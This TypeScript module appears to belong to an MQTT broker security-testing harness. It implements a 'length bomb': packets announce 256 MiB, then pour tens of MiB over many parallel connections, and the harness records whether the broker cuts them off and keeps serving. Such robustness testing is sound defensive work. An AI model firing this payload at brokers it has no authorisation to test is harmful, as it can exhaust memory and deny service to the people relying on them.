import type { Attack, AttackContext, Finding } from './contract.ts';
import { answersNewcomers, dial, enter, type Line } from './line.ts';

/** CONNECT and PUBLISH that announce 256 MiB less one byte, the most that MQTT can say (MQTT 3.1.1 §2.2.3). */
const CONNECT_BOMB = Uint8Array.of(0x10, 0xff, 0xff, 0xff, 0x7f);
const PUBLISH_BOMB = Uint8Array.of(0x30, 0xff, 0xff, 0xff, 0x7f);
const PIECE = new Uint8Array(64 * 1024);
const POURED_BYTES = 32 << 20;
/** What both kernels may hold on the way, and more than a broker needs to see what is announced. */
const TAKEN_MAX_BYTES = 12 << 20;
const CUT_WITHIN_MS = 5_000;
const MIB = 1 << 20;

interface Poured {
  readonly isCut: boolean;
  /** Bytes that the kernel took of what was poured. */
  readonly taken: number;
}

/** A piece at a time, each once the last has been taken. */
const pour = async (line: Line, bomb: Uint8Array): Promise<Poured> => {
  let taken = 0;
  const more = (failed?: Error | null): void => {
    if (failed !== undefined && failed !== null) return;
    taken += PIECE.length;
    if (taken < POURED_BYTES) line.socket.write(PIECE, more);
  };
  line.send(bomb);
  line.socket.write(PIECE, more);
  const isCut = await line.endsWithin(CUT_WITHIN_MS);
  line[Symbol.dispose]();
  return { isCut, taken };
};

const bomb = async (context: AttackContext, isKnown: boolean): Promise<Finding> => {
  const count = isKnown ? 1 : context.count;
  const poured = await Promise.all(
    Array.from({ length: count }, async () => {
      const line = isKnown ? (await enter(context)).line : await dial(context);
      return await pour(line, isKnown ? PUBLISH_BOMB : CONNECT_BOMB);
    }),
  );
  const cut = poured.filter(({ isCut }) => isCut).length;
  const most = Math.max(...poured.map(({ taken }) => taken));
  const who = isKnown ? 'An admitted sender' : 'A stranger';
  return {
    what: `${who} that announces 256 MiB is cut off before ${TAKEN_MAX_BYTES / MIB} MiB of it are taken`,
    holds: cut === count && most <= TAKEN_MAX_BYTES,
    saw: `${cut} of ${count} cut off, at most ${(most / MIB).toFixed(1)} MiB of one taken`,
  };
};

/** Five bytes that make a careless parser gather a quarter of a gibibyte. */
export const lengthBomb: Attack = {
  description: 'packets that announce 256 MiB and begin to pour it',
  needsAccount: false,
  run: async (context) => {
    const findings = [await bomb(context, false)];
    if (context.target.account !== undefined) findings.push(await bomb(context, true));
    const isOpen = await answersNewcomers(context);
    return [
      ...findings,
      { what: 'Newcomers are answered after it', holds: isOpen, saw: isOpen ? 'yes' : 'no' },
    ];
  },
};
